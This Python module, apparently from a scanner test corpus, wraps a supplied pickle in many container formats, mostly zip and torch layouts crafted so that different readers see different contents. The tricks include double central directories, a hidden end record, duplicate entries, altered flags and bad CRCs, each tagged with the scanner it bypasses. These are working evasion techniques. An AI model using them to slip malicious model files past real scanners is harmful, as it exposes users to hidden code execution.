"""What a pickle is put into: torch's formats, and zip and tar files of which two readers see different things."""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import numpy as np

__all__ = ["CONTAINERS", "STORAGE", "benign", "legacy", "tarred", "two_directories", "zipped"]

STORAGE = np.random.default_rng(0).standard_normal(216).astype("<f4").tobytes()
_MAGIC = 0x1950A86A20F9469CFC6C


def benign() -> bytes:
    """The pickle of one convolution's weights, which does nothing."""
    from hostile.payloads.opcodes import encode, tensor

    return b"\x80\x02}" + encode("conv.weight") + tensor() + b"s."


def zipped(records: list[tuple[str, bytes]], *, method: int = zipfile.ZIP_STORED) -> bytes:
    """Make a zip file of records, doubles allowed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in records:
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def _records(data: bytes, name: str = "data.pkl", top: str = "archive") -> list[tuple[str, bytes]]:
    return [
        (f"{top}/{name}", data),
        (f"{top}/byteorder", b"little"),
        (f"{top}/data/0", STORAGE),
        (f"{top}/version", b"3\n"),
    ]


def _plain(data: bytes) -> bytes:
    return zipped(_records(data))


def legacy(data: bytes) -> bytes:
    """Put a pickle into the format of torch before 1.6."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    head = b"".join(pickle.dumps(part, 2) for part in (_MAGIC, 1001, system))
    return head + data + pickle.dumps(["0"], 2) + struct.pack("<q", 216) + STORAGE


def _tar(data: bytes) -> bytes:
    return tarred([("model.pt", _plain(data))])


def tarred(members: list[tuple[str, bytes]]) -> bytes:
    """Make a tar file of members."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def _oldest(data: bytes) -> bytes:
    """Torch's first format, a tar file of three pickles (CVE-2025-32434's other way)."""
    return tarred([("sys_info", data), ("pickle", data), ("storages", data), ("tensors", data)])


def two_directories(shown: list[tuple[str, bytes]], hidden: bytes) -> bytes:
    """Make a file of two zip directories, of one size and count.

    Python looks for the directory before the end record and moves all offsets by what lies between; torch's reader
    takes the end record's offset at its word.
    """
    end = hidden.rfind(b"PK\5\6")
    count, size, start = struct.unpack_from("<HII", hidden, end + 10)
    out = bytearray(hidden[: start + size])
    records = [*shown, *((f"archive/{n}", b"") for n in range(count - len(shown)))]
    body, places = bytearray(), []
    for name, data in records:
        places.append(len(out) + len(body))
        head = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 33, zlib.crc32(data), len(data), len(data), len(name), 0)
        body += b"PK\3\4" + head + name.encode() + data
    moved = len(out) + len(body) - start
    directory = bytearray()
    for (name, data), place in zip(records, places, strict=True):
        room = size - len(directory) - 46 - len(name) if name == records[-1][0] else 0
        if room < 0 or place < moved:
            raise ValueError("the hidden archive is too small to hide behind")
        numbers = (20, 20, 0, 0, 0, 33, zlib.crc32(data), len(data), len(data), len(name), 0, room, 0, 0, 0)
        directory += b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", *numbers, place - moved)
        directory += name.encode() + b"x" * room
    ending = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, len(records), len(records), size, start, 0)
    return bytes(out + body + directory) + ending


def _hidden(data: bytes, *, turned: bool = False, script: bool = False) -> bytes:
    """A pickle in a directory that Python does not see, or (turned) that torch does not see."""
    inner, outer = (benign(), data) if turned else (data, benign())
    records = [*_records(inner), *(_script_records(data) if script else [])]
    padding = [(f"archive/{'long' * 20}/{number}", bytes(2000)) for number in range(4)]
    return two_directories(_records(outer), zipped([*padding, *records]))


def _flagged(bit: int) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        whole = bytearray(_plain(data))
        for magic, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
            place = whole.find(magic)
            whole[place + offset] |= bit
        return bytes(whole)

    return change


def _wrong_crc(data: bytes) -> bytes:
    whole = bytearray(_plain(data))
    whole[14] ^= 0xFF
    whole[whole.find(b"PK\1\2") + 16] ^= 0xFF
    return bytes(whole)


def _renamed(data: bytes) -> bytes:
    """Call the record one thing in its own header and another in the directory."""
    whole = _plain(data)
    place = whole.find(b"archive/data.pkl")
    return whole[:place] + b"archive/safe.pkl" + whole[place + 16 :]


def _comment(data: bytes) -> bytes:
    """Hide a second end record in the first one's comment."""
    whole = bytearray(_plain(benign()))
    other = _plain(data)
    struct.pack_into("<H", whole, len(whole) - 2, len(other) & 0xFFFF)
    return bytes(whole) + other


def _doubled(first: Callable[[bytes], bytes], second: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def make(data: bytes) -> bytes:
        records = _records(first(data))
        return zipped([*records, ("archive/data.pkl", second(data))])

    return make


def _script_records(data: bytes) -> list[tuple[str, bytes]]:
    return [("archive/constants.pkl", data), ("archive/code/__torch__.py", b"zq7x = 1\n")]


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "zip": _plain,
    "zip deflated": lambda d: zipped(_records(d), method=zipfile.ZIP_DEFLATED),
    "zip without a folder": lambda d: zipped([(n.partition("/")[2], c) for n, c in _records(d)]),
    "zip behind bytes": lambda d: b"\x80\x02N." + bytes(60) + _plain(d),
    "zip before bytes": lambda d: _plain(d) + bytes(100),
    "zip of two directories": _hidden,
    "zip of two directories turned": lambda d: _hidden(d, turned=True),
    "zip with a hidden script": lambda d: _hidden(d, script=True),
    "zip of a script": lambda d: zipped([*_records(d), *_script_records(d)]),
    "zip with data.pkl twice, last bad": _doubled(lambda _: benign(), lambda d: d),
    "zip with data.pkl twice, first bad": _doubled(lambda d: d, lambda _: benign()),
    "zip with DATA.PKL": lambda d: zipped([*_records(benign()), ("archive/DATA.PKL", d)]),
    "zip with data.pkl in two folders": lambda d: zipped([*_records(benign()), *_records(d, top="other")]),
    "zip encrypted flag (picklescan 0x1)": _flagged(0x1),
    "zip flag 0x20 (picklescan)": _flagged(0x20),
    "zip flag 0x40 (picklescan)": _flagged(0x40),
    "zip wrong CRC (picklescan)": _wrong_crc,
    "zip named twice (picklescan central directory)": _renamed,
    "zip in a comment": _comment,
    "zip in a zip": lambda d: zipped([("archive/data.pkl", _plain(d)), ("archive/version", b"3\n")]),
    "legacy": legacy,
    "legacy of another magic (picklescan)": lambda d: pickle.dumps(0x1950A86A20F9469CFC6D, 2) + d,
    "legacy, bad first": lambda d: d + legacy(benign()),
    "pickle": lambda d: d,
    "tar": _tar,
    "tar of torch's oldest format": _oldest,
    "7z (nullifAI)": lambda d: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24) + d,
    "gzip": lambda d: gzip.compress(_plain(d)),
    "npy": lambda d: (
        b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + d
    ),
}
